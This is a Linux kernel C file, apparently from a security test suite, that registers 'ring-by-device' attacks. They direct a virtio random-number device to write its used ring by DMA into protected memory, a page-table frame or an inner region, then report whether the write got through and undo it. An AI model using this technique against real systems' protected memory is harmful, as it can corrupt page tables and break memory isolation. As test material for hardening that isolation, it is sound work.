// SPDX-License-Identifier: GPL-2.0-only
/*
 * A virtqueue whose used ring is in memory that the kernel may not write: the device
 * writes there by itself. The function is a source of random numbers, of which Linux
 * uses none.
 */
#include <linux/delay.h>
#include <linux/gfp.h>
#include <linux/mm.h>
#include <linux/string.h>
#include <linux/virtio_ring.h>

#include <asm/pgtable.h>

#include "attack.h"
#include "device/disk.h"
#include "device/function.h"

#define RANDOM		0x1044
/* Even, so that no word of the ring becomes a valid descriptor */
#define BYTES		FUNCTION_BYTES
/* Words of a used ring with one element: flags and index, identifier, length */
#define WORDS		2

static bool open_random(void)
{
	return open_function(RANDOM, "source of random numbers");
}

static bool is_filled(const struct function_memory *memory)
{
	return memchr_inv(memory->bytes, 0, BYTES);
}

/*
 * One request, with the used ring at `used`. True if random numbers came; a device that
 * cannot reach its ring may have stopped before.
 */
static bool request(u64 used)
{
	struct function_memory *memory = (void *)get_zeroed_page(GFP_KERNEL | __GFP_NOFAIL);
	bool came;

	start_request(memory, BYTES, VRING_DESC_F_WRITE, used);
	wait_for_function(memory, is_filled);
	/* The ring comes behind the bytes */
	msleep(20);
	came = is_filled(memory);
	/* A device that goes on keeps the page */
	if (!reset_function())
		return false;
	free_page((unsigned long)memory);
	return came;
}

/* Whether a ring in ordinary memory works. */
static bool ring_works(void)
{
	struct vring_used *used = (void *)get_zeroed_page(GFP_KERNEL | __GFP_NOFAIL);
	bool works = request(__pa(used)) && READ_ONCE(used->idx) == cpu_to_le16(1) &&
		     READ_ONCE(used->ring[0].len) == cpu_to_le32(BYTES);

	if (works)
		free_page((unsigned long)used);
	else
		attack_untried("a ring in ordinary memory does not work");
	return works;
}

static void clear_words(u64 frame, u64 first)
{
	unsigned int i;

	for (i = 0; i < WORDS; i++)
		__donjon_call(DONJON_FN_TABLE_WRITE, frame + (first + i) * sizeof(u64),
			      0, 0, 0, 0, 0);
}

/* `copy` is what stands in the frame; `look` reads the frame afterwards, into a page. */
static void attack(u64 frame, u64 *copy, void (*look)(u64 frame, u64 *page))
{
	u64 *page = (u64 *)__get_free_page(GFP_KERNEL | __GFP_NOFAIL);
	unsigned int i = zero_words(copy, WORDS);
	const struct vring_used *used = (void *)(page + i);

	if (ring_works()) {
		request(frame + i * sizeof(u64));
		look(frame, page);
		if (used->idx == cpu_to_le16(1)) {
			attack_succeeded("a used ring is in the frame %#llx", frame);
			/* The disk may not reach it, where this function does */
			if (look == disk_look) {
				undo_later(disk_put_back, frame, (u64)copy);
				copy = NULL;
			} else {
				undo_later(clear_words, frame, i);
			}
		} else if (ring_works()) {
			attack_stopped("the frame is as before");
		}
	}
	free_page((unsigned long)page);
	free_page((unsigned long)copy);
}

static void look_here(u64 frame, u64 *page)
{
	memcpy(page, __va(frame), PAGE_SIZE);
}

static void table(void)
{
	u64 frame = table_frame();
	u64 *copy;

	if (!disk_works() || !open_random())
		return;
	copy = (u64 *)__get_free_page(GFP_KERNEL | __GFP_NOFAIL);
	look_here(frame, copy);
	attack(frame, copy, look_here);
}

static void inner(void)
{
	u64 *copy;

	if (!disk_works() || !open_random())
		return;
	copy = (u64 *)__get_free_page(GFP_KERNEL | __GFP_NOFAIL);
	disk_look(inner_memory(), copy);
	attack(inner_memory(), copy, disk_look);
}

DONJON_ATTACK("ring-by-device", "table", table);
DONJON_ATTACK("ring-by-device", "inner", inner);
